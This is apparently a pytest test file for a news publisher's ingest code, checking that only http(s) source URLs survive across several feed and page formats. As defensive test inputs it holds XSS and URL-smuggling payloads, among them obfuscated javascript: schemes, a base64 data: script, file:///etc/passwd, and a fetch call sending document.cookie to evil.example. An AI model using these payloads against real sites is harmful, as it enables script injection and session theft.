"""A dispatch's source URL: only http(s) is kept, in every format; others dropped with a warning."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from publisher.cli import cli
from publisher.ingest import ParsedDispatch, parse_items
from publisher.ingest.urls import MAX_URL_LENGTH, accept_source_url, web_url

HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/path",
    "/relative/path",
    "http:evil.example",
    "https:///evil.example",
    "http:\\\\evil.example",
    "http://good.example\\@evil.example/",
    "http://user:secret@evil.example/",
    "http://good.example@evil.example/",
    "http://example.org:99999/",
    "http://[::1/",
    "http://example.org/a b",
    "http://example.org/\u2028x",
    "https://example.org/" + "a" * MAX_URL_LENGTH,
]
GOOD_URLS = [
    "http://example.org/news/1",
    "https://example.org/news/1?id=2&x=%20#top",
    "HTTPS://Example.ORG/",
    "https://例え.テスト/記事",
    "https://example.org:8443/a",
]


@pytest.mark.parametrize("value", HOSTILE_URLS)
def test_hostile_urls_are_refused(value: str) -> None:
    assert web_url(value) is None
    kept, warning = accept_source_url(value)
    assert kept is None
    assert warning is not None and warning.startswith("source URL dropped: ")


@pytest.mark.parametrize("value", GOOD_URLS)
def test_http_urls_are_kept(value: str) -> None:
    assert web_url(value) == value
    assert web_url(f"  {value} ") == value
    assert accept_source_url(value) == (value, None)


@pytest.mark.parametrize("value", [None, "", "   ", 42, ["http://example.org/"]])
def test_no_url_is_no_warning(value: object) -> None:
    assert web_url(value) is None
    if value is None or isinstance(value, str):
        assert accept_source_url(value) == (None, None)


def test_the_warning_names_the_scheme_not_the_payload() -> None:
    _kept, warning = accept_source_url("javascript:fetch('//evil.example/'+document.cookie)")
    assert (
        warning == "source URL dropped: only http and https addresses are kept, not 'javascript:'"
    )


BODY = "Busan opened a new ferry terminal on Monday. The terminal can handle four ships at once."


def _markdown(url: str) -> bytes:
    return f"---\ntitle: Ferry terminal opens\nurl: '{url}'\n---\n\n{BODY}\n".encode()


def _ninjs(url: str) -> bytes:
    return json.dumps({"headline": "Ferry terminal opens", "body_text": BODY, "url": url}).encode()


def _jsonl(url: str) -> bytes:
    line = {"headline": "Ferry terminal opens", "body_text": BODY, "url": url}
    other = {"headline": "Rail talks resume", "body_text": BODY, "url": "https://example.org/2"}
    return (json.dumps(line) + "\n" + json.dumps(other) + "\n").encode()


def _html_canonical(url: str) -> bytes:
    return (
        f'<!doctype html><html lang="en"><head><title>Ferry terminal opens</title>'
        f'<link rel="canonical" href="{url}"></head>'
        f"<body><article><h1>Ferry terminal opens</h1><p>{BODY}</p></article></body></html>"
    ).encode()


def _html_og(url: str) -> bytes:
    return (
        f'<!doctype html><html lang="en"><head><title>Ferry terminal opens</title>'
        f'<meta property="og:url" content="{url}"></head>'
        f"<body><article><h1>Ferry terminal opens</h1><p>{BODY}</p></article></body></html>"
    ).encode()


def _rss(url: str) -> bytes:
    return (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title>'
        "<link>https://example.org/</link><description>d</description>"
        f"<item><title>Ferry terminal opens</title><link>{url}</link>"
        f"<description>{BODY}</description></item></channel></rss>"
    ).encode()


def _atom(url: str) -> bytes:
    return (
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Wire</title>'
        "<id>urn:wire</id><updated>2025-11-12T05:30:00Z</updated>"
        "<entry><title>Ferry terminal opens</title><id>urn:wire:1</id>"
        f'<updated>2025-11-12T05:30:00Z</updated><link rel="alternate" href="{url}"/>'
        f'<content type="text">{BODY}</content></entry></feed>'
    ).encode()


FORMATS = {
    "markdown": (_markdown, "ferry.md"),
    "ninjs": (_ninjs, "ferry.json"),
    "jsonl": (_jsonl, "ferry.jsonl"),
    "html-canonical": (_html_canonical, "ferry.html"),
    "html-og-url": (_html_og, "ferry.html"),
    "rss": (_rss, "ferry.rss"),
    "atom": (_atom, "ferry.atom"),
}
# Written as XML or HTML attribute text, so & must be escaped there.
IN_MARKUP = {"html-canonical", "html-og-url", "rss", "atom"}


def _first(data: bytes, name: str) -> ParsedDispatch:
    items = parse_items(data, name)
    assert isinstance(items[0], ParsedDispatch), items
    return items[0]


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,hi", "JAVASCRIPT:void(0)", "vbscript:x"]
)
def test_every_format_drops_an_unsafe_source_url(kind: str, url: str) -> None:
    build, name = FORMATS[kind]
    item = _first(build(url), name)
    assert item.url is None
    assert item.story_key() != url
    assert len(item.warnings) == 1 and "source URL dropped" in item.warnings[0]


@pytest.mark.parametrize("kind", FORMATS)
def test_every_format_keeps_an_http_source_url(kind: str) -> None:
    build, name = FORMATS[kind]
    item = _first(
        build(
            "https://example.org/news/1?a=1&amp;b=2"
            if kind in IN_MARKUP
            else "https://example.org/news/1?a=1&b=2"
        ),
        name,
    )
    assert item.url == "https://example.org/news/1?a=1&b=2"
    assert item.warnings == []


def test_an_entity_encoded_scheme_in_a_page_is_decoded_then_refused() -> None:
    item = _first(_html_canonical("&#106;avascript&#58;alert(1)"), "ferry.html")
    assert item.url is None
    assert item.warnings == [
        "source URL dropped: only http and https addresses are kept, not 'javascript:'"
    ]


def test_ingest_reports_the_dropped_url_and_stores_the_dispatch(
    instance: Path, tmp_path: Path
) -> None:
    source = tmp_path / "ferry.md"
    source.write_bytes(_markdown("javascript:alert(1)"))
    runner = CliRunner()
    result = runner.invoke(cli, ["--instance", str(instance), "ingest", str(source)])
    assert result.exit_code == 0, result.output
    assert "added" in result.stdout
    assert f"warning   {source}: source URL dropped: only http and https" in result.stderr
    shown = runner.invoke(cli, ["--instance", str(instance), "show", "1", "--json"])
    assert json.loads(shown.stdout)["url"] is None

    source.write_bytes(_markdown("data:text/html,hi").replace(b"Ferry", b"Rail"))
    result = runner.invoke(cli, ["--instance", str(instance), "ingest", "--json", str(source)])
    report = json.loads(result.stdout)
    assert report["items"][0]["status"] == "added"
    assert report["items"][0]["warnings"] == [
        "source URL dropped: only http and https addresses are kept, not 'data:'"
    ]
